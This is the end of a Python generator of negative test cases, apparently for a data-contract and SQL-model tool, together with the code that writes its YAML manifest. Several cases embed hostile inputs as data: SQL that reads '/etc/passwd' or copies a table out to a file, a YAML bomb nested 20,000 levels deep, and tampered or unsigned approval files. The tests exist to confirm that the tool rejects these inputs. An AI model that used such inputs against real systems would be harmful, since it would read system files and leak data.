proj("contract-too-deep", "a YAML file nested without end", {"contracts/typed.odcs.yaml": "a: " + "[" * 20000 + "]" * 20000 + "\n"}, fails("typed.odcs.yaml, line 1: ", 2), command=CHECK, approve=())
proj("contract-yaml-boolean-name", "YAML reads a bare no as false; a column's name is never guessed", {"contracts/typed.odcs.yaml": contract(append="      - {name: no, logicalType: string}\n")}, fails("line 22: `name` is true or false", 2), command=CHECK, approve=())
proj("contract-tabs", "tabs do not indent YAML", {"contracts/typed.odcs.yaml": "apiVersion: v3.1.0\nschema:\n\t- name: typed\n"}, fails("typed.odcs.yaml, line 3: ", 2), command=CHECK, approve=())
proj("contract-latin-1", "project files are UTF-8", {"contracts/typed.odcs.yaml": contract(append="# caf\xe9\n").encode("latin-1")}, fails("line 22 is not UTF-8", 2), command=CHECK, approve=())
proj("contract-too-large", "project files have a limit", {"contracts/typed.odcs.yaml": {"generator": "contract_2mb"}}, fails("at most 1048576 bytes", 2), command=CHECK, approve=())
proj("contract-not-approved", "a contract that nobody approved lets nothing in", {}, fails("nobody approved it", 3), approve=())
proj("contract-changed-after-approval", "an approval is of one text; a rule that was loosened since needs another", {"after_approval:contracts/typed.odcs.yaml": contract(replace={"maxLength: 40": "maxLength: 400"})}, fails("it is not what was approved", 3))
proj("contract-approval-cut", "an approval without its signature is none", {"after_approval:contracts/typed.odcs.approval": "polder contract approval v1\ntyped\n" + "0" * 64 + "\n\n"}, fails("no enrolled approver signed its approval", 3))
proj("contract-approval-garbled", "a signature that does not verify is none", {"after_approval:contracts/typed.odcs.approval": "polder contract approval v1\n\u2014 root AAAA\n"}, fails("approval is damaged", 3))
proj("polder-yaml-unknown-key", "there is no key that switches sealing off", {"append:polder.yaml": "encryption: off\n"}, fails("line 14: `encryption`", 2), command=CHECK, approve=())
proj("model-copies-out", "a model cannot write files", {"models/leak.sql": "-- polder: materialized = table\ncopy (select * from typed) to '/tmp/leak.csv'\n"}, fails("models/leak.sql: copy begins no query", 2), command=("model", "run"))
proj("model-reads-files", "a model cannot read files", {"models/leak.sql": "-- polder: materialized = table\nselect * from 'file:///etc/passwd'\n"}, fails("models/leak.sql: a file or an address in place of a table", 2), command=("model", "run"))
proj("model-of-itself", "an order that does not end", {"models/a.sql": "-- polder: materialized = table\nselect * from b\n", "models/b.sql": "-- polder: materialized = table\nselect * from a\n"}, fails("models/a.sql: models read each other in a circle: a -> b -> a", 2), command=("model", "run"))
proj("model-unknown-setting", "a misspelt header is never ignored", {"models/a.sql": "-- polder: materialised = table\nselect 1 as one\n"}, fails("models/a.sql:1: the setting materialised is not known", 2), command=("model", "run"))
proj("policy-syntax", "a policy that cannot be read denies everything", {"after_approval:policies/bad.cedar": "permit (principal, action, resource when {};\n"}, fails("policies/bad.cedar:1", 2), command=("sql", "select 1 as one", "--output", "csv"))


def main():
    names = [entry["name"] for entry in CASES]
    assert len(names) == len(set(names)), "two cases of one name"
    for entry in CASES:
        if entry["source"] == "csv" and entry.get("files") is None:
            assert isinstance(entry["input"], dict) or (HERE / entry["input"]).is_file()
    text = "# Written by generate.py. The page README.md beside it says what the keys mean.\n"
    text += yaml.dump({"cases": CASES}, Dumper=Literal, sort_keys=False, allow_unicode=True, width=130)
    (HERE / "manifest.yaml").write_text(text)
    assert yaml.safe_load(text)["cases"] == yaml.safe_load(yaml.safe_dump(CASES)), "the manifest reads back"
    wanted = set()
    for entry in CASES:
        wanted |= {value for value in [entry["input"], *entry.get("files", {}).values()] if isinstance(value, str)}
    for folder in ("csv", "ndjson", "parquet", "project"):
        for path in sorted((HERE / folder).rglob("*")):
            if path.is_file() and str(path.relative_to(HERE)) not in wanted:
                raise SystemExit(f"{path} belongs to no case; remove it")
    print(len(CASES), "cases")


if __name__ == "__main__":
    main()
